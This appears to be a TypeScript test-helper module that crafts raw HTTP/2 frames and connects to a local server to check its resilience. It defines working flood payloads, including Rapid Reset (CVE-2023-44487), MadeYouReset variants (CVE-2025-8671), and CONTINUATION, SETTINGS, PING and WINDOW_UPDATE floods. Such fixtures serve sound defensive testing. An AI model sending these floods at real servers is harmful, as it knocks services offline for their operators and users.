import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'

/*
 * HTTP/2 as bytes, for tests: frames that a well-behaved client never sends (RFC 9113 section 6), and the floods that servers
 * are attacked with.
 */

/** Connects and says the preface; SETTINGS are the caller's to send. @param secure over TLS, whoever the server is. Default false. */
export async function rawHttp2(port: number, secure: boolean = false): Promise<Socket> {
  const at = { port, host: '127.0.0.1', noDelay: true }
  const socket = secure ? connectTls({ ...at, ALPNProtocols: ['h2'], rejectUnauthorized: false }) : connect(at)
  socket.on('error', () => {})
  await once(socket, secure ? 'secureConnect' : 'connect')
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
  return socket
}

/** A frame of RFC 9113 section 4.1. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(streamId, 5)
  return Buffer.concat([head, payload])
}

/** SETTINGS of these identifiers and values. */
export const settings = (...pairs: [id: number, value: number][]): Buffer => {
  const payload = Buffer.alloc(6 * pairs.length)
  for (const [index, [id, value]] of pairs.entries()) {
    payload.writeUInt16BE(id, 6 * index)
    payload.writeUInt32BE(value, 6 * index + 2)
  }
  return frame(4, 0, 0, payload)
}

const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
/** RST_STREAM; default CANCEL. */
export const reset = (streamId: number, code = 8): Buffer => frame(3, 0, streamId, word(code))
export const windowUpdate = (streamId: number, bytes: number): Buffer => frame(8, 0, streamId, word(bytes))
/** `GET / http://a`, from the static table of RFC 7541. */
export const getRoot = (streamId: number, endStream = true): Buffer =>
  frame(1, endStream ? 5 : 4, streamId, Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 97]))

/** Resolves when the socket is closed, with how many ms that took; rejects after the limit. */
export function socketClosed(socket: Socket, limitMs: number): Promise<number> {
  const startMs = performance.now()
  socket.resume()
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`still open after ${limitMs} ms`)), limitMs)
    socket.once('close', () => {
      clearTimeout(timer)
      resolve(performance.now() - startMs)
    })
  })
}

/** The first `count` numbers of a client's streams. */
export const streamIds = (count: number): number[] => Array.from({ length: count }, (_, index) => 1 + 2 * index)

const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value, 'latin1')])

/** A call of gRPC that is still to send its message. @param path shorter than 127 characters, as one byte of length has it. */
export const callOf =
  (path: string) =>
  (streamId: number): Buffer =>
    frame(
      1,
      4,
      streamId,
      Buffer.concat([
        // :method POST, :scheme http; :path and :authority by the static table's names, and not to be remembered.
        Buffer.from([0x83, 0x86, 0x04]),
        text(path),
        Buffer.from([0x01]),
        text('a'),
        Buffer.from([0x0f, 0x10]),
        text('application/grpc'),
        Buffer.from([0x00]),
        text('te'),
        text('trailers'),
      ]),
    )

/** 20,000 requests, each reset behind its head: CVE-2023-44487. @param open begins a stream; default `GET /`. */
export const rapidReset = (open: (streamId: number) => Buffer = getRoot): Buffer =>
  Buffer.concat(streamIds(20_000).flatMap((id) => [open(id), reset(id)]))

const times = (count: number, bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes))

/** By name, what an attacker sends behind the preface and its SETTINGS. None of it is a request that wants an answer. */
export const http2Floods: ReadonlyMap<string, () => Buffer> = new Map([
  // The server resets (CVE-2025-8671): because a window grows beyond its bound, or because of content behind the end.
  [
    'MadeYouReset by WINDOW_UPDATE',
    () => Buffer.concat(streamIds(5_000).flatMap((id) => [getRoot(id, false), windowUpdate(id, 2 ** 31 - 1)])),
  ],
  [
    'MadeYouReset by DATA',
    () => Buffer.concat(streamIds(5_000).flatMap((id) => [getRoot(id), frame(0, 0, id, Buffer.from('more'))])),
  ],
  [
    'CONTINUATION',
    () => Buffer.concat([frame(1, 0, 1, Buffer.from([0x82])), times(20_000, frame(9, 0, 1, Buffer.from([0x86])))]),
  ],
  ['empty DATA', () => Buffer.concat([getRoot(1, false), times(50_000, frame(0, 0, 1))])],
  ['SETTINGS', () => times(50_000, settings([3, 100]))],
  ['PING', () => times(50_000, frame(6, 0, 0, Buffer.alloc(8)))],
  ['WINDOW_UPDATE', () => times(50_000, windowUpdate(0, 1))],
  ['RST_STREAM of nothing', () => Buffer.concat(streamIds(20_000).map((id) => reset(id)))],
])
